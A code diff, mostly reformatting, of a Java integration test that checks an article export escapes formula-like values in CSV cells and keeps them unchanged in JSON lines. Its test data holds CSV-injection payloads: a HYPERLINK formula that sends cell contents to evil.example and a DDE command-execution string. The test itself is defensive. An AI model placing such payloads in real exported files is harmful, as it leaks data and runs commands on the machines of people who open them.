@@ -23,12 +23,17 @@ import tools.jackson.databind.json.JsonMapper;
 class CsvInjectionIT extends ReliabilityApp {
   static final String CANARY = "formulacanary";
   static final String FIELDS = "id,title,outlet,byline,people,topics,wordCount";
-  static final List<List<String>> ARTICLES = List.of(
-      List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")", "=cmd|' /C calc'!A0", "@Mallory", "+topic"),
-      List.of("+1+1 is two", "@SUM(1,2)", "-Eve", "=1"),
-      List.of("-2+3 minus", "\tTab Outlet", "=Trudy", "@mention"),
-      List.of("@SUM(A1:A9)", "+Plus Outlet", "\tTabbed Person", "-minus"),
-      List.of("\tTabbed title", "-Minus Outlet", "+Plus Person", "\rCR topic"));
+  static final List<List<String>> ARTICLES =
+      List.of(
+          List.of(
+              "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")",
+              "=cmd|' /C calc'!A0",
+              "@Mallory",
+              "+topic"),
+          List.of("+1+1 is two", "@SUM(1,2)", "-Eve", "=1"),
+          List.of("-2+3 minus", "\tTab Outlet", "=Trudy", "@mention"),
+          List.of("@SUM(A1:A9)", "+Plus Outlet", "\tTabbed Person", "-minus"),
+          List.of("\tTabbed title", "-Minus Outlet", "+Plus Person", "\rCR topic"));
 
   @BeforeEach
   void formulas() throws Exception {
@@ -53,8 +58,15 @@ class CsvInjectionIT extends ReliabilityApp {
   void csvCellsNeverStartLikeAFormula() throws Exception {
     Http.Reply r = http().get("/api/export?format=csv&q=" + CANARY + "&fields=" + FIELDS);
     assertThat(r.status()).isEqualTo(200);
-    List<CSVRecord> rows = CSVFormat.RFC4180.builder().setCommentMarker('#').setHeader().setSkipHeaderRecord(true)
-        .get().parse(new StringReader(r.body())).getRecords();
+    List<CSVRecord> rows =
+        CSVFormat.RFC4180
+            .builder()
+            .setCommentMarker('#')
+            .setHeader()
+            .setSkipHeaderRecord(true)
+            .get()
+            .parse(new StringReader(r.body()))
+            .getRecords();
     assertThat(rows).hasSize(ARTICLES.size());
     for (CSVRecord row : rows) {
       List<String> a = ARTICLES.get(Integer.parseInt(row.get("id").substring("formula-".length())));
@@ -64,22 +76,33 @@ class CsvInjectionIT extends ReliabilityApp {
       assertThat(row.get("people")).isEqualTo("'" + a.get(2) + "; Ann");
       assertThat(row.get("topics")).isEqualTo("'" + a.get(3));
       assertThat(row.get("wordCount")).as("numbers stay numbers").matches("-?\\d+");
-      for (String cell : row.values()) assertThat(cell).as(row.toString()).doesNotMatch("(?s)^[=+@\\t\\r].*");
+      for (String cell : row.values())
+        assertThat(cell).as(row.toString()).doesNotMatch("(?s)^[=+@\\t\\r].*");
     }
-    System.out.printf("[reliability] CSV injection: %d articles with formula-like title, outlet, byline, people and "
-        + "topics; %d cells neutralised in the CSV export%n", rows.size(), rows.size() * 5);
+    System.out.printf(
+        "[reliability] CSV injection: %d articles with formula-like title, outlet, byline, people and "
+            + "topics; %d cells neutralised in the CSV export%n",
+        rows.size(), rows.size() * 5);
   }
 
   @Test
   void jsonLinesKeepTheValuesAsTheyAre() throws Exception {
     Http.Reply r = http().get("/api/export?format=jsonl&q=" + CANARY + "&fields=" + FIELDS);
     assertThat(r.status()).isEqualTo(200);
-    List<JsonNode> rows = r.body().lines().skip(1).map(l -> JsonMapper.shared().readTree(l)).toList();
+    List<JsonNode> rows =
+        r.body().lines().skip(1).map(l -> JsonMapper.shared().readTree(l)).toList();
     assertThat(rows).hasSize(ARTICLES.size());
     for (JsonNode row : rows) {
-      List<String> a = ARTICLES.get(Integer.parseInt(row.get("id").asString().substring("formula-".length())));
-      assertThat(Map.of("title", row.get("title").asString(), "outlet", row.get("outlet").asString(),
-          "people", row.get("people").get(0).asString()))
+      List<String> a =
+          ARTICLES.get(Integer.parseInt(row.get("id").asString().substring("formula-".length())));
+      assertThat(
+              Map.of(
+                  "title",
+                  row.get("title").asString(),
+                  "outlet",
+                  row.get("outlet").asString(),
+                  "people",
+                  row.get("people").get(0).asString()))
           .isEqualTo(Map.of("title", a.get(0), "outlet", a.get(1), "people", a.get(2)));
     }
   }
